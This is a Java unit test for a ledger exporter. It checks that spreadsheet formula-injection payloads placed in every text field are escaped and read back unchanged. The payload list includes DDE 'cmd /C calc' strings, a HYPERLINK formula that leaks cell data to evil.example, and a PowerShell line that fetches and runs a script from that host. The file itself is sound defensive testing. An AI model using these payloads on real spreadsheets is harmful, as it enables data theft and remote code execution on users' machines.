package io.github.jianshi.ledger;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.jianshi.core.Author;
import io.github.jianshi.core.Checklists;
import io.github.jianshi.core.Finding;
import io.github.jianshi.core.Measure;
import io.github.jianshi.core.MeasureStatus;
import io.github.jianshi.core.Report;
import io.github.jianshi.core.Verdict;
import io.github.jianshi.core.ledger.LedgerEntry;
import io.github.jianshi.core.ledger.LedgerView;
import io.github.jianshi.core.ProgressUpdate;
import io.github.jianshi.core.Verification;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Formula (CSV) injection: real payloads in every text column are written inert and read back unchanged. */
class InjectionTest {

  static List<String> payloads() {
    return List.of(
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "+2+3",
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "+cmd|'/C powershell IEX(wget evil.example/x.ps1)'!A0",
        "-cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
        "=1+1\n第二行");
  }

  /** A report whose every text field is the payload, with an entry whose history carries it too. */
  private static LedgerEntry entry(String p) {
    Report r = Report.builder().answering(Checklists.ninePoint()).id(p + "-id").title(p)
        .author(Author.builder().name(p).organization(p).build())
        .addFinding(Finding.builder().checkpoint(Checklists.ninePoint().checkpoints().get(0).id())
            .verdict(Verdict.PROBLEMS_FOUND).heading(p).build())
        .addMeasure(Measure.builder().headline(p).text(p).owner(p)
            .addCheckpoint(Checklists.ninePoint().checkpoints().get(0).id()).status(MeasureStatus.DONE).build())
        .build();
    return LedgerEntry.builder().from(LedgerView.of(r).get(0))
        .addHistory(ProgressUpdate.builder().date(LocalDate.of(2024, 1, 2)).status(MeasureStatus.DONE).note(p)
            .addEvidence(p).by(p).build())
        .verification(Verification.of(LocalDate.of(2024, 1, 3), p)).build();
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void xlsxCellsAreNeverFormulasAndReadBackUnchanged(String p) throws Exception {
    LedgerEntry e = entry(p);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new XlsxLedgerWriter(Optional.of(Fixtures.AS_OF)).write(List.of(new LedgerLine(e, p)), out);
    List<String> texts = new ArrayList<>();
    try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
      for (Row row : wb.getSheetAt(0)) {
        for (Cell c : row) {
          assertThat(c.getCellType()).as("cell %s", c.getAddress()).isNotEqualTo(CellType.FORMULA);
          if (c.getCellType() == CellType.STRING) {
            String v = c.getStringCellValue();
            assertThat(v).as("cell %s", c.getAddress()).doesNotStartWith("=").doesNotStartWith("+")
                .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            texts.add(v);
          }
        }
      }
    }
    // every text column of the row holds the (escaped) payload: report, organisation, author, problems,
    // headline, text, owner, verifier; the entry id and the history begin with it
    assertThat(texts).filteredOn(t -> t.equals(CellText.escape(p))).hasSize(p.contains("\n") ? 7 : 8);
    assertThat(texts).contains(CellText.escape(e.id()));
    LedgerSheet sheet = new XlsxLedgerReader().read(out.toByteArray(), "t.xlsx");
    assertThat(sheet.diagnostics()).isEmpty();
    Map<LedgerColumn, Object> v = sheet.rows().get(0).values();
    for (LedgerColumn c : LedgerColumn.values()) {
      Object expected = new LedgerLine(e, p).value(c);
      if (expected instanceof String || expected instanceof java.time.LocalDate) {
        assertThat(v.get(c)).as(c.header()).isEqualTo(expected);
      }
    }
    assertThat(v.get(LedgerColumn.HISTORY)).isEqualTo(LedgerLine.history(e.history()));
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void csvFieldsStartWithAnApostropheAndReadBackUnchanged(String p) throws Exception {
    LedgerEntry e = entry(p);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new CsvLedgerWriter(true).write(List.of(new LedgerLine(e, p)), out);
    String csv = new String(out.toByteArray(), StandardCharsets.UTF_8);
    try (var records = de.siegmar.fastcsv.reader.CsvReader.builder().ofCsvRecord(csv.substring(1))) {
      for (var record : records) {
        for (String field : record.getFields()) {
          assertThat(field).as("raw CSV field").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
              .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
        }
      }
    }
    LedgerSheet sheet = new CsvLedgerReader().read(out.toByteArray(), "t.csv");
    assertThat(sheet.diagnostics()).isEmpty();
    Map<LedgerColumn, Object> v = sheet.rows().get(0).values();
    for (LedgerColumn c : LedgerColumn.values()) {
      Object expected = new LedgerLine(e, p).value(c);
      if (expected != null) {
        assertThat(v.get(c)).as(c.header()).isEqualTo(expected.toString());
      }
    }
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void escapingIsUndoneExactly(String p) {
    assertThat(CellText.unescape(CellText.escape(p))).isEqualTo(p);
    assertThat(CellText.escape(p)).startsWith("'");
  }
}
